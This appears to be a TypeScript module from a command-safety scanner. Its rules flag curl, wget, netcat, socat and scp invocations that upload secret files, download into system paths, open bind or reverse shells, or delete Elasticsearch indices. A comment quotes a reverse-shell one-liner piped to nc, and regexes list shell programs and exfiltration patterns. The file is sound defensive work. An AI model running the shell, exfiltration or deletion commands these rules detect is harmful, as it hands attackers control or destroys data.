import type { CommandView, Rule } from '../rule'
import { hasFlag } from '../options'
import { exfiltration, holdsSecrets, SECRET_PATH } from './exposure'

const SENSITIVE_UPLOAD = SECRET_PATH

const curl: Rule = (c) => {
  const opts = c.opts({
    shortWithValue: 'oXdFTuHAeEKrwmyYzbcCDPQtUx',
    longWithValue: [
      'output',
      'request',
      'data',
      'data-binary',
      'data-raw',
      'data-urlencode',
      'form',
      'upload-file',
      'user',
      'header',
      'config',
      'cookie',
      'cookie-jar',
      'proxy',
      'max-time',
      'connect-timeout',
      'retry',
      'cert',
      'key',
      'cacert',
      'referer',
      'user-agent',
      'write-out',
      'dump-header',
      'url',
    ],
  })
  const uploads = [
    opts.values.get('d'),
    opts.values.get('F'),
    opts.values.get('T'),
    opts.long.get('data'),
    opts.long.get('data-binary'),
    opts.long.get('form'),
    opts.long.get('upload-file'),
  ]
  if (exfiltration(c)) return
  const leaked = uploads.find(
    (u) => typeof u === 'string' && holdsSecrets(c, u.replace(/^[^@]*@/, '')),
  )
  if (typeof leaked === 'string') {
    c.emit(
      'net.exfiltrate',
      'high',
      `Uploads ${leaked.replace(/^[^@]*@/, '')}, which holds secrets, to a server`,
      c.nameArg,
    )
    return
  }
  const out = opts.values.get('o') ?? opts.long.get('output')
  const url = opts.operands.find((o) => /^[a-z]+:\/\/|^[\w.-]+:\d+\//i.test(o.value))
  if (typeof out === 'string' && out !== '-' && out !== '/dev/null') {
    c.engine.noteDownload(c, out)
    const info = c.pathOf(out)
    const sys = ['system', 'system-top', 'root'].includes(info.kind)
    c.emit(
      sys ? 'net.download.system' : 'net.download',
      sys ? 'high' : 'moderate',
      `Downloads to ${info.path}`,
      c.args.find((a) => a.value === out) ?? c.nameArg,
    )
  } else if (hasFlag(opts, 'OJ', 'remote-name', 'remote-name-all')) {
    if (url) c.engine.noteDownload(c, url.value.replace(/[?#].*$/, '').replace(/^.*\//, ''))
    c.emit('net.download', 'moderate', 'Downloads a file into the current directory', c.nameArg)
  }
  const xFlag = c.args.find((a) => /^-X[A-Z]+$/.test(a.value))?.value.slice(2)
  const method = String(
    opts.values.get('X') ?? opts.long.get('request') ?? xFlag ?? '',
  ).toUpperCase()
  if (method === 'DELETE') {
    const target = url?.value ?? ''
    const path = target.replace(/^[a-z]+:\/\/[^/]*/i, '')
    if (/^\/(_all|\*|_data_stream\/\*|\*,\*)\/?$/.test(path))
      c.emit(
        'db.search.delete-all',
        'critical',
        `Deletes every index on ${target.replace(/\/[^/]*$/, '')} (Elasticsearch/OpenSearch)`,
        url ?? c.nameArg,
      )
    else if (
      /:9200\b|elastic|opensearch|\/_doc\b|\/_index\b/.test(target) &&
      /^\/[^/_][^/]*\/?$/.test(path)
    )
      c.emit(
        'db.search.delete-index',
        'high',
        `Deletes the search index ${path.slice(1)}`,
        url ?? c.nameArg,
        { prod: true },
      )
    else
      c.emit('net.http.delete', 'moderate', 'Sends an HTTP DELETE request', c.nameArg, {
        prod: true,
      })
  }
}

const wget: Rule = (c) => {
  const opts = c.opts({
    shortWithValue: 'OoaPtTUeiBlQwD',
    longWithValue: ['output-document', 'directory-prefix', 'post-file', 'body-file'],
  })
  const post = opts.long.get('post-file') ?? opts.long.get('body-file')
  if (typeof post === 'string' && SENSITIVE_UPLOAD.test(post))
    return c.emit(
      'net.exfiltrate',
      'high',
      `Uploads ${post}, which holds secrets, to a server`,
      c.nameArg,
    )
  if (hasFlag(opts, '', 'spider')) return
  const out = opts.values.get('O') ?? opts.long.get('output-document')
  if (out === '-') return
  const dirPrefix = opts.values.get('P') ?? opts.long.get('directory-prefix')
  if (typeof out === 'string') c.engine.noteDownload(c, out)
  else
    for (const u of opts.operands) {
      const file = u.value.replace(/[?#].*$/, '').replace(/^.*\//, '')
      if (file)
        c.engine.noteDownload(c, typeof dirPrefix === 'string' ? `${dirPrefix}/${file}` : file)
    }
  const target = typeof out === 'string' ? c.pathOf(out) : null
  const sys = target && ['system', 'system-top', 'root'].includes(target.kind)
  c.emit(
    sys ? 'net.download.system' : 'net.download',
    sys ? 'high' : 'moderate',
    `Downloads ${target ? `to ${target.path}` : 'files into the current directory'}`,
    c.nameArg,
  )
}

/** Programs that hand whoever is on the other end a command line. */
const SHELL_PROGRAM =
  /(^|\/)(sh|bash|zsh|dash|ksh|mksh|ash|fish|csh|tcsh|cmd(\.exe)?|powershell(\.exe)?|pwsh|python[\d.]*|perl|ruby|php|node)$/i

/**
 * `sh -i 2>&1 | nc host 4444`: a shell whose input or output is this connection is a reverse
 * shell; whoever is on the other end runs commands here.
 */
function shellOverNetwork(c: CommandView): boolean {
  const stdin = c.cmd.stdin
  const pipeline = stdin.kind !== 'none' && 'pipeline' in stdin ? stdin.pipeline : undefined
  const shell = pipeline?.find(
    (p) =>
      SHELL_PROGRAM.test(p.words[0]?.value ?? '') &&
      p.words.slice(1).every((w) => /^-[a-z]*$/i.test(w.value)),
  )
  if (!shell) return false
  c.emit(
    'net.reverse-shell',
    'critical',
    `Reverse shell: ${shell.words[0]!.value} reads and answers over the network through ${c.name}`,
    { start: stdin.kind === 'none' ? c.cmd.span.start : stdin.span.start, end: c.nameArg.span.end },
  )
  return true
}

const netcat: Rule = (c) => {
  if (shellOverNetwork(c) || exfiltration(c)) return
  const opts = c.opts({ shortWithValue: 'epsiwWqxXIO' })
  const exec = opts.values.get('e') ?? opts.long.get('exec')
  const shellString = c.args.find((a) => /^(-c|--sh-exec)$/.test(a.value))
  if (exec !== undefined || shellString) {
    const shell = shellString !== undefined || SHELL_PROGRAM.test(String(exec))
    c.emit(
      shell ? 'net.reverse-shell' : 'net.shell',
      shell ? 'critical' : 'high',
      shell
        ? `Bind or reverse shell: gives whoever connects a shell on this machine (${shellString ? shellString.value : `-e ${String(exec)}`})`
        : `Connects ${String(exec)} to the network (bind or reverse shell pattern)`,
      c.nameArg,
    )
  } else if (hasFlag(opts, 'l', 'listen'))
    c.emit('net.listen', 'moderate', 'Listens for network connections', c.nameArg)
}

const scp: Rule = (c) => {
  const opts = c.opts({ shortWithValue: 'cFiJloPSDX' })
  const leaked = opts.operands
    .slice(0, -1)
    .find((o) => holdsSecrets(c, o.value) || /^(~|\/|\/root|\/home\/[^/]+)\/?$/.test(o.value))
  if (leaked && opts.operands[opts.operands.length - 1]?.value.includes(':'))
    return c.emit(
      'net.exfiltrate',
      'high',
      `Copies ${leaked.value}, which holds secrets, to another machine`,
      leaked,
    )
  const dest = opts.operands[opts.operands.length - 1]
  if (dest && opts.operands.length >= 2)
    c.emit('net.copy', 'moderate', `Copies files to ${dest.value}`, dest, { prod: true })
}

export const networkRules: Record<string, Rule> = {
  telnet: (c) => void exfiltration(c),
  curl,
  wget,
  nc: netcat,
  ncat: netcat,
  netcat,
  socat: (c) => {
    if (shellOverNetwork(c) || exfiltration(c)) return
    const exec = c.args.find((a) => /^(exec|system):/i.test(a.value))
    const network = c.args.some((a) => /^(tcp|tcp4|tcp6|udp|ssl|openssl)[\w-]*:/i.test(a.value))
    if (!exec) return
    const program = exec.value.replace(/^\w+:/, '').split(/[,\s]/)[0] ?? ''
    if (network && SHELL_PROGRAM.test(program))
      c.emit(
        'net.reverse-shell',
        'critical',
        `Bind or reverse shell: connects ${program} to the network, so whoever is on the other end runs commands here`,
        exec,
      )
    else c.emit('net.shell', 'high', 'Connects a program or shell to the network', exec)
  },
  scp,
  sftp: (c) => c.emit('net.copy', 'moderate', 'Opens a file transfer session', c.nameArg),
  'ssh-keygen': (c) => {
    if (c.args.some((a) => a.value === '-R'))
      c.emit('net.known-hosts', 'moderate', 'Removes a host key from known_hosts', c.nameArg)
    else if (!c.args.some((a) => /^-[a-zA-Z]*[lFyL]/.test(a.value)))
      c.emit(
        'net.keygen',
        'moderate',
        'Creates or changes an SSH key (may overwrite one)',
        c.nameArg,
      )
  },
  'ssh-copy-id': (c) =>
    c.emit(
      'net.authorize-key',
      'moderate',
      'Authorises your SSH key on another machine',
      c.nameArg,
    ),
}
